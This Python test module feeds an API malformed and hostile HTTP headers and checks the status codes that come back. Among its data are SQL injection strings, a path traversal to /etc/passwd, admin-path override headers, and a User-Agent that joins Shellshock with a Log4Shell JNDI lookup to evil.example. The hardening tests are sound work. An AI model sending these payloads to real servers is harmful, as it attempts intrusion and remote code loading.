"""Headers and credentials that are wrong, doubled, huge, or mean something elsewhere."""

import hashlib

from tests.system.hostile.requests import SECRET, USERNAME, basic, sending

CONTENT_TYPES = {
    "none": ((), 415),
    "an empty one": (("",), 415),
    "text": (("text/plain",), 415),
    "text that is JSON": (("text/json",), 415),
    "XML": (("application/xml",), 415),
    "a form": (("application/x-www-form-urlencoded",), 415),
    "a form of several parts": (("multipart/form-data; boundary=x",), 415),
    "a form of several parts without a boundary": (("multipart/form-data",), 415),
    "any": (("*/*",), 415),
    "JSON with padding": (("application/jsonp",), 415),
    "a patch": (("application/merge-patch+json",), 415),
    "JSON or text": (("application/json, text/plain",), 415),
    "JSON in quotes": (('"application/json"',), 415),
    "60,000 characters": (("application/" + "j" * 60_000,), 415),
    "upper case": (("APPLICATION/JSON",), None),
    "a character set that the body is not in": (("application/json; charset=utf-16",), None),
    "a character set that does not exist": (("application/json; charset=nothing",), None),
    "a parameter without a value": (("application/json;charset",), None),
    "1,000 parameters": (("application/json" + "; a=b" * 1_000,), None),
}
KEYS = {
    "an empty one": (("",), 887),
    "empty quotes": (('""',), 887),
    "half of the quotes": (('"a',), 887),
    "single quotes": (("'a'",), 887),
    "256 characters": (("k" * 256,), 887),
    "300 characters in quotes": (('"' + "k" * 300 + '"',), 887),
    "60,000 characters": (("k" * 60_000,), 887),
    "a space in it": (("a b",), 887),
    "a tab in it": (("a\tb",), 887),
    "a comma in it": (("a,b",), 887),
    "a semicolon in it": (("a;b",), 887),
    "a percent escape": (("%00",), 887),
    "a pattern of SQL": (("' OR 1=1 --",), 887),
    "a letter with an accent": (("\xc3\xa9",), 887),
    "a byte that is no UTF-8": (("\xff",), 887),
    "two": (("a", "b"), 887),
    "the same one twice": (("a", "a"), 887),
    "an empty one and a good one": (("", "a"), 887),
    "255 characters": (("k" * 255,), None),
    "255 characters in quotes": (('"' + "k" * 255 + '"',), None),
}
GOOD = basic(f"{USERNAME}:{SECRET}".encode())
UNAUTHORIZED = {
    "none": (),
    "an empty header": ("",),
    "a scheme only": ("Basic",),
    "a scheme and a space": ("Basic ",),
    "no scheme": (GOOD.removeprefix("Basic "),),
    "characters that are no base64": ("Basic !!!!",),
    "base64 without its end": (GOOD[:-3],),
    "base64 with something after it": (f"{GOOD}x",),
    "base64 with a space in it": (f"{GOOD[:20]} {GOOD[20:]}",),
    "base64 of nothing": (basic(b""),),
    "no colon": (basic(b"till.1"),),
    "a colon only": (basic(b":"),),
    "no secret": (basic(b"till.1:"),),
    "no username": (basic(f":{SECRET}".encode()),),
    "bytes that are no UTF-8": (basic(b"\xff\xfe:\xff"),),
    "UTF-16": (basic(f"{USERNAME}:{SECRET}".encode("utf-16")),),
    "a NUL in the username": (basic(f"{USERNAME}\0:{SECRET}".encode()),),
    "a NUL in the secret": (basic(f"{USERNAME}:{SECRET}\0".encode()),),
    "a wrong secret": (basic(b"till.1:wrong"),),
    "a secret with a space after it": (basic(f"{USERNAME}:{SECRET} ".encode()),),
    "a secret in upper case": (basic(f"{USERNAME}:{SECRET.upper()}".encode()),),
    "a secret's MD5 in upper case": (basic(f"{USERNAME}:{hashlib.md5(SECRET.encode()).hexdigest().upper()}".encode()),),
    "a username in upper case": (basic(f"{USERNAME.upper()}:{SECRET}".encode()),),
    "a username with a character of no width": (basic(f"till\u200b.1:{SECRET}".encode()),),
    "a username that is a condition of SQL": (basic(b"' OR '1'='1:x"),),
    "a username of 45,000 characters": (basic(b"t" * 45_000 + b":x"),),
    "a secret of 45,000 characters": (basic(b"till.1:" + b"s" * 45_000),),
    "45,000 colons": (basic(b":" * 45_000),),
    "another scheme": ("Bearer " + SECRET,),
    "a digest": ('Digest username="till.1", response="0"',),
    "a scheme that begins as the right one": (GOOD.replace("Basic", "Basics"),),
    "the right one twice": (GOOD, GOOD),
    "a wrong one before the right one": (basic(b"till.1:wrong"), GOOD),
    "a wrong one after the right one": (GOOD, "Bearer x"),
}
AUTHORIZED = {
    "a scheme in lower case": GOOD.replace("Basic", "basic"),
    "two spaces after the scheme": GOOD.replace(" ", "  "),
    "a secret's MD5": basic(f"{USERNAME}:{hashlib.md5(SECRET.encode()).hexdigest()}".encode()),
}
IGNORED = {
    "another method": ("X-HTTP-Method-Override", "DELETE"),
    "another address": ("X-Original-URL", "/admin/"),
    "another address, rewritten": ("X-Rewrite-URL", "/admin/"),
    "another host": ("X-Forwarded-Host", "evil.example"),
    "another scheme": ("X-Forwarded-Proto", "gopher"),
    "another address of the client": ("X-Forwarded-For", "127.0.0.1, ::1, ' OR 1=1"),
    "another script": ("Script-Name", "/admin"),
    "another program to call through": ("Proxy", "http://evil.example"),
    "credentials for a proxy": ("Proxy-Authorization", "Basic eDp5"),
    "an org": ("X-CAP-ORG", "1"),
    "an id of the request": ("X-CAP-REQUEST-ID", "../../etc/passwd"),
    "cookies that are none": ("Cookie", ';;=;=a; sessionid; csrftoken="\\000"; $Version=1'),
    "a type that is not JSON wanted": ("Accept", "text/html;q=\xff, application/xml"),
    "a type wanted 10,000 times": ("Accept", "a/b," * 10_000),
    "a coding that no one knows": ("Accept-Encoding", "zstd;q=9, \x80"),
    "a language that no one speaks": ("Accept-Language", "-" * 10_000),
    "a part of the reply": ("Range", "bytes=0-0,-1"),
    "a reply only if it is new": ("If-None-Match", "*"),
    "a reply only if it is old": ("If-Unmodified-Since", "yesterday"),
    "a condition on the server": ("User-Agent", "() { :; }; echo ${jndi:ldap://evil.example}"),
    "100,000 characters that mean nothing": ("X-Note", "n" * 100_000),
}

HEADERS = [
    *(
        sending(f"Content-Type: {name}", "Content-Type", *values, status=code or 200, code=code)
        for name, (values, code) in CONTENT_TYPES.items()
    ),
    *(
        sending(f"Idempotency-Key: {name}", "Idempotency-Key", *values, status=400 if code else 200, code=code)
        for name, (values, code) in KEYS.items()
    ),
    *(
        sending(f"credentials: {name}", "Authorization", *values, status=401, code=401)
        for name, values in UNAUTHORIZED.items()
    ),
    *(sending(f"credentials: {name}", "Authorization", value) for name, value in AUTHORIZED.items()),
    *(sending(f"a header that asks for {name}", header, value) for name, (header, value) in IGNORED.items()),
    sending("50 headers that mean nothing", "X-Note", *("n" * 1_000 for _ in range(50))),
]
